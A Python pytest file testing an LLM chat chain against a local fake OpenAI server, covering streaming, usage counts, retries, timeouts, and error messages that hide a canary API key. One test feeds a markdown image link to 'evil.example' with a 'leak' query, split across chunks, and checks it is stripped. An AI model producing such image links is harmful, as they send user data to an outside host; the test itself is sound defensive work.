"""Base mode over the real wire: what is streamed, counted, retried, and said when the server fails."""

from __future__ import annotations

import logging
import time
from collections.abc import Iterator

import pytest

from chains.answer import Answer, Question, StageStarted, TextDelta, Turn
from chains.base import BaseChain
from chains.models import ChatModelConfig, connect
from errors import NoModelConnectedError, ProviderError
from tests.loopback.openai_server import LoopbackServer, Scripted, serve_openai

CANARY = "sk-canary-7f3a91"
QUESTION = Question(text="What is a lease?")


@pytest.fixture
def server() -> Iterator[LoopbackServer]:
    with serve_openai() as running:
        yield running


def chain(server: LoopbackServer, *, timeout_s: float = 5.0, max_retries: int = 0) -> BaseChain:
    config = ChatModelConfig(
        model_id="compatible:m",
        base_url=server.url,
        api_key=CANARY,
        timeout_s=timeout_s,
        max_retries=max_retries,
    )
    return BaseChain(chat_model=connect(config))


def test_without_a_model_it_says_how_to_connect_one() -> None:
    with pytest.raises(NoModelConnectedError, match="OPENAI_API_KEY"):
        BaseChain(chat_model=None).stream(QUESTION)


def test_the_words_come_one_by_one_and_add_up(server: LoopbackServer) -> None:
    server.then(Scripted(text="A lease is a contract.", input_tokens=20, output_tokens=6))
    stage, *deltas, answer = chain(server).stream(QUESTION)
    assert stage == StageStarted(stage="writing")
    assert all(isinstance(delta, TextDelta) for delta in deltas)
    assert len(deltas) > 2
    assert isinstance(answer, Answer)
    assert "".join(delta.text for delta in deltas if isinstance(delta, TextDelta)) == answer.text
    assert answer.text == "A lease is a contract."
    assert (answer.mode, answer.model, answer.reason) == ("base", "compatible:m", None)
    assert (answer.usage.input_tokens, answer.usage.output_tokens) == (20, 6)
    assert 0 < answer.timings_ms["first_token"] <= answer.timings_ms["generate"] <= answer.timings_ms["total"]
    assert answer.receipt is not None
    assert len(answer.receipt.prompt_sha256 or "") == 64


def test_usage_is_asked_for_when_streaming(server: LoopbackServer) -> None:
    server.then("Yes.")
    chain(server).invoke(QUESTION)
    assert server.chat_requests[0].body["stream"] is True
    assert server.chat_requests[0].body["stream_options"] == {"include_usage": True}


def test_history_goes_along(server: LoopbackServer) -> None:
    server.then("Yes.")
    turns = (Turn(role="user", text="Hi"), Turn(role="assistant", text="Hello [1]."))
    chain(server).invoke(Question(text="And now?", history=turns))
    messages = server.chat_requests[0].body["messages"]
    assert [message["role"] for message in messages] == ["system", "user", "assistant", "user"]
    assert [message["content"] for message in messages[1:]] == ["Hi", "Hello.", "And now?"]


@pytest.mark.parametrize(
    ("reply", "says"),
    [
        (Scripted(status=401, error_message=f"bad key {CANARY}"), "refused the key"),
        (Scripted(status=403, error_message=f"bad key {CANARY}"), "does not allow this key"),
        (Scripted(status=404, error_code="model_not_found"), "does not know compatible:m"),
        (Scripted(status=429), "limiting requests: try again in a minute"),
        (Scripted(status=429, retry_after=7), "try again in 7 s"),
        (Scripted(status=429, error_code="insufficient_quota"), "no quota left"),
        (Scripted(status=400, error_code="context_length_exceeded"), "status 400, context_length_exceeded"),
        (Scripted(status=418, error_code=f"code {CANARY}"), r"status 418\)"),
        (Scripted(status=500, error_message=f"crash {CANARY}"), "status 500"),
        (Scripted(status=503), "status 503"),
        (Scripted(abort_after=0, text="never"), "broke off the answer"),
        (Scripted(raw=b"data: {cut off\n\n"), "not OpenAI's format"),
        (
            Scripted(raw=f'data: {{"error": {{"message": "{CANARY}"}}}}\n\n'.encode()),
            "failed while answering",
        ),
        (Scripted(raw=b"<html>a login page</html>"), "not OpenAI's format"),
    ],
)
def test_a_failure_before_any_text_is_one_sentence_without_the_key(
    server: LoopbackServer, reply: Scripted, says: str, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    server.then(reply)
    with pytest.raises(ProviderError, match=says) as raised:
        chain(server).invoke(QUESTION)
    assert CANARY not in str(raised.value)
    assert "\n" not in str(raised.value)
    assert raised.value.__cause__ is None
    assert raised.value.__suppress_context__, "the server's own text must not reach a traceback"
    assert CANARY not in caplog.text


@pytest.mark.parametrize(
    "reply", [Scripted(text=""), Scripted(raw=b'data: {"nothing": "known"}\n\ndata: [DONE]\n\n')]
)
def test_an_empty_reply_is_said_to_be_empty(server: LoopbackServer, reply: Scripted) -> None:
    server.then(reply)
    answer = chain(server).invoke(QUESTION)
    assert (answer.text, answer.reason) == ("", "The model returned an empty answer.")


def test_a_silent_server_is_given_up_after_the_timeout(server: LoopbackServer) -> None:
    server.then(Scripted(text="late", delay_s=3))
    with pytest.raises(ProviderError, match="did not answer in time"):
        chain(server, timeout_s=0.2).invoke(QUESTION)


def test_a_server_that_goes_silent_while_writing_leaves_what_it_wrote(server: LoopbackServer) -> None:
    server.then(Scripted(pieces=("One. ", "never"), stall_after=1))
    answer = chain(server, timeout_s=0.3).invoke(QUESTION)
    assert answer.text == "One. "
    assert "did not answer in time" in (answer.reason or "")


def test_429_is_tried_again_when_the_server_says(server: LoopbackServer) -> None:
    server.then(Scripted(status=429, retry_after=1), "Done.")
    assert chain(server, max_retries=2).invoke(QUESTION).text == "Done."
    first, second = server.chat_requests
    assert second.at_s - first.at_s >= 1.0


def test_500_is_tried_again_and_then_told(server: LoopbackServer) -> None:
    server.then(Scripted(status=500), Scripted(status=500))
    with pytest.raises(ProviderError, match="status 500"):
        chain(server, max_retries=1).invoke(QUESTION)
    assert len(server.chat_requests) == 2


def test_401_is_not_tried_again(server: LoopbackServer) -> None:
    server.then(Scripted(status=401))
    with pytest.raises(ProviderError):
        chain(server, max_retries=2).invoke(QUESTION)
    assert len(server.chat_requests) == 1


def test_an_answer_cut_midway_is_kept_with_the_reason(server: LoopbackServer) -> None:
    server.then(Scripted(pieces=("A lease ", "is a ", "contract"), abort_after=2))
    *deltas, answer = chain(server).stream(QUESTION)
    assert isinstance(answer, Answer)
    assert answer.text == "A lease is a "
    assert answer.reason is not None
    assert "broke off the answer" in answer.reason
    assert "".join(delta.text for delta in deltas if isinstance(delta, TextDelta)) == answer.text


@pytest.mark.parametrize(
    ("finish", "says"), [("length", "token limit"), ("content_filter", "content filter"), ("stop", None)]
)
def test_an_answer_that_ended_early_says_why(server: LoopbackServer, finish: str, says: str | None) -> None:
    server.then(Scripted(text="Partly", finish_reason=finish))
    reason = chain(server).invoke(QUESTION).reason
    assert (reason is None) if says is None else says in (reason or "")


def test_a_reader_that_leaves_closes_the_connection(server: LoopbackServer) -> None:
    server.then(Scripted(pieces=["word "] * 400, gap_s=0.005))
    events = chain(server).stream(QUESTION)
    next(events), next(events)
    events.close()  # type: ignore[attr-defined]
    for _ in range(200):
        if server.disconnects:
            break
        time.sleep(0.02)
    assert server.disconnects == 1


def test_images_and_links_do_not_pass(server: LoopbackServer) -> None:
    server.then(Scripted(pieces=("See ![x](htt", "ps://evil.example/?q=leak) ", "now.")))
    *deltas, answer = chain(server).stream(QUESTION)
    assert isinstance(answer, Answer)
    assert "evil.example" not in answer.text
    assert "](" not in answer.text
    assert "".join(delta.text for delta in deltas if isinstance(delta, TextDelta)) == answer.text


def test_a_batch_keeps_the_order() -> None:
    with serve_openai(answer=lambda body: "Re: " + body["messages"][-1]["content"]) as server:
        questions = [Question(text=f"question {n}") for n in range(8)]
        answers = chain(server).batch(questions, max_concurrency=4)
    assert [answer.text for answer in answers] == [f"Re: question {n}" for n in range(8)]
